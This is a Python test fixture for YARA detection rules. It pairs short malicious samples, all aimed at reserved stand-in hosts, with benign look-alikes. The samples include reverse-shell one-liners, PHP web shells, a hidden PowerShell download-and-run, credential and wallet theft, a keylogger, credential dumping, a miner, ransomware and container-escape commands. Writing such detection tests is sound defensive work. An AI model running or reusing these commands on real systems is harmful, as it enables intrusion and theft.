"""For every YARA rule of ours: bytes it must find, and bytes it must leave alone. All hosts are reserved names."""

# ruff: noqa: E501 (an example stands on one line)

EXAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
    "reverse_shell_dev_tcp": (
        [b"bash -i >& /dev/tcp/c2.example.com/4444 0>&1", b"exec 5<>/dev/tcp/c2.example.com/80; cat <&5"],
        [b"timeout 1 bash -c 'echo > /dev/tcp/localhost/80' && echo up"],
    ),
    "reverse_shell_netcat": (
        [
            b"nc -e /bin/sh c2.example.com 4444",
            b"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example.com 1",
            b"socat tcp:c2.example.com:1 exec:'bash -li'",
        ],
        [b"nc -z localhost 80", b"nc -l 8080 > file.bin"],
    ),
    "reverse_shell_script": (
        [
            b"import socket,os,pty\ns=socket.socket()\ns.connect(('c2.example.com',1))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')",
            b"$c = New-Object System.Net.Sockets.TCPClient('c2.example.com',1); while(1){ iex $d }",
        ],
        [b"import socket\ns = socket.socket()\ns.connect(('example.com', 80))\n"],
    ),
    "web_shell": (
        [b"<?php eval($_POST['x']);", b"<?php system(base64_decode($_GET['c'])); ?>"],
        [b"<?php echo htmlspecialchars($_POST['x']);"],
    ),
    "powershell_hidden_download": (
        [
            b'powershell -w hidden -c "iex (irm https://c2.example.com/a)"',
            b"powershell -ep bypass -enc " + b"QUJD" * 20,
        ],
        [b"powershell -ExecutionPolicy Bypass -File setup.ps1"],
    ),
    "browser_password_store": (
        [b"path = 'User Data/Default/Login Data'\nwin32crypt.CryptUnprotectData(k)", b"logins.json key4.db"],
        [b"Open the Login Data section of the settings."],
    ),
    "wallet_collection": (
        [b"'wallet.dat', 'Electrum/wallets', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/Electrum/wallets'"],
        [b"Back up your wallet.dat first."],
    ),
    "macos_password_prompt": (
        [b'osascript -e \'display dialog "Password" default answer "" with hidden answer\'\ndscl . -authonly me $p'],
        [b"osascript -e 'display dialog \"Done\"'"],
    ),
    "chat_token_grabber": (
        [rb"re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', open('leveldb/x').read())"],
        [b"post to https://discord.com/api/webhooks/1/x"],
    ),
    "key_logger": (
        [b"from pynput.keyboard import Listener\nkeylog = []\nrequests.post('https://c2.example.com', data=keylog)"],
        [b"from pynput.keyboard import Controller\nController().type('hi')"],
    ),
    "credential_dumping_tool": ([b"mimikatz sekurlsa::logonpasswords", b"reg save hklm\\sam x"], [b"procdump -h"]),
    "cloud_metadata_credentials": (
        [b"curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role"],
        [b"curl http://169.254.169.254/latest/meta-data/instance-id"],
    ),
    "coin_miner": (
        [
            b"./xmrig -o stratum+tcp://pool.example.com:3333 -u 4AAAA",
            b'{"donate-level": 1, "url": "stratum+ssl://pool.example.com:1"}',
        ],
        [b"The stratum+tcp:// scheme is used by pools."],
    ),
    "ransom": (
        [
            b"os.walk('/')\nFernet(k)\nopen('README','w').write('Your files have been encrypted')",
            b"vssadmin delete shadows /all\nAES.new(k)",
        ],
        [b"Fernet(k).encrypt(b'x')"],
    ),
    "preload_rootkit": ([b"echo /tmp/x.so >> /etc/ld.so.preload"], [b"cat /etc/ld.so.preload"]),
    "container_escape": (
        [b"nsenter -t 1 -m -u -i sh", b"docker run -v /:/host alpine chroot /host sh"],
        [b"docker run -v /data:/data alpine"],
    ),
    "shellcode_loader": (
        [b"p = k.VirtualAlloc(0, n, 0x3000, 0x40)\nk.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0, 0, 0)"],
        [b"mm = mmap(-1, 10)\n"],
    ),
    "packed_executable": (
        [b"\x7fELF" + bytes(200) + b"UPX!" + bytes(50) + b"UPX!"],
        [b"\x7fELF" + bytes(200), b"text with UPX! and UPX!"],
    ),
    "antivirus_test_file": (
        [b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"],
        [b"EICAR is a test file."],
    ),
}
